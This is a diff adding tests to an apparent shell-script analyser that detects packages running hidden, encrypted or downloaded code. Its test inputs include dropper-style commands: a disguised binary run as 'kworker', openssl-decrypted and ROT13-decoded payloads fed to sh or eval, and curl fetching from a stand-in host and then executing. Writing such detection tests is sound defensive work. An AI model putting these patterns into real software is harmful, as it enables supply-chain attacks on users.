@@ -112,3 +112,76 @@ describe('what a script text starts', () => {
     expect(run('true;'.repeat(10_000)).facts.map((fact) => fact.id)).toContain('limit.shell');
   });
 });
+
+describe('where a script lies, and what it moves', () => {
+  const vendor = { 'vendor/run.sh': '', 'vendor/x.wasm': '\x7fELF', 'vendor/part.dat': 'jtrg uggcf://u.rknzcyr' };
+  const inFile = (text: string): FrontEndResult =>
+    interpretShell({ ...scriptTask(text), file: 'vendor/run.sh' }, contextOf(vendor), true);
+
+  test.each([
+    'dir=$(cd "$(dirname "$0")" && pwd); sh "$dir/x.wasm"',
+    'here=${0%/*}; t=$(mktemp -d); install -m 755 "$here/x.wasm" "$t/kworker"; (cd "$t" && ./kworker)',
+    'cp "$(dirname "${BASH_SOURCE[0]}")/x.wasm" /tmp/w; /tmp/w',
+  ])('%s starts the file of the package', (text) => {
+    expect(started(inFile(text))).toContain('vendor/x.wasm');
+  });
+
+  test('a shell of its own does not change where the others are', () => {
+    expect(started(run('(cd build); node x.js', { 'x.js': '', 'build/x.js': '' }))).toEqual(['x.js']);
+  });
+
+  test.each([
+    'openssl enc -d -aes-256-cbc -k x -in vendor/part.dat | sh',
+    `x=$(printf %s "$Y" | tr 'A-Za-z' 'N-ZA-Mn-za-m'); eval "$x"`,
+  ])('%s runs what is hidden', (text) => {
+    const { observations } = inFile(text);
+    const run = observations.filter(({ sink }) => sink === 'code.eval');
+    expect(run.flatMap(({ taints }) => taints.map(({ source }) => source))).toContain('file.own');
+  });
+
+  test('a file that is named by a pattern below an unknown folder is read', () => {
+    const { observations } = inFile(`eval "$(cat "$UNKNOWN"/*.dat | tr 'A-Za-z' 'N-ZA-Mn-za-m')"`);
+    expect(observations.filter(({ sink }) => sink === 'net.out').map(({ target }) => target)).toEqual([
+      'https://h.example',
+    ]);
+  });
+
+  test('autoconf makes names with sed and tr, and evaluates assignments of them', () => {
+    const { observations } = inFile('v=$(echo "ac_$1" | tr "a-z.-" "A-Z__"); eval "have_$v=yes"');
+    expect(observations.flatMap(({ taints }) => taints.map(({ source }) => source))).not.toContain('file.own');
+  });
+
+  test('a download is run by a path of which the folder is not known', () => {
+    expect(flows('curl -o "$OUT/x" https://h.example; chmod +x "$OUT/x"; "$OUT/x"', 'code.eval')).toContain(
+      'net.response',
+    );
+  });
+
+  test('what a script of package.json prints goes on', () => {
+    const scripts = { unpack: 'openssl enc -d -aes-256-cbc -k x -in a.dat' };
+    const { observations } = run('npm run -s unpack | sh', { 'a.dat': 'U2FsdGVk' }, { scripts });
+    expect(observations.find(({ sink }) => sink === 'code.eval')?.taints[0]?.source).toBe('file.own');
+  });
+});
+
+describe('tools that run code of the package', () => {
+  test('a configuration is started as the tool starts it', () => {
+    const { next } = run('babel src', { 'babel.config.js': '', '.babelrc': '{"plugins":["./p.js"]}' });
+    expect(next.map((task) => [task.entry.calledBack, task.kind === 'text' && task.language])).toEqual([
+      [true, 'javascript'],
+      [true, 'javascript'],
+    ]);
+  });
+
+  test('the configuration may stand in package.json', () => {
+    expect(run('jest', {}, { jest: { setupFiles: ['./s.js'] } }).next).toHaveLength(1);
+  });
+
+  test('deno loads what a map names, registries excepted', () => {
+    const map = JSON.stringify({ imports: { 'a/': 'https://h.example/a/', 'std/': 'https://deno.land/std@1.0.0/' } });
+    const { observations } = run('npx deno@2 run --import-map=m.json a.ts', { 'm.json': map, 'a.ts': '' });
+    expect(observations.filter(({ sink }) => sink === 'code.require').map(({ target }) => target)).toEqual([
+      'https://h.example/a/',
+    ]);
+  });
+});
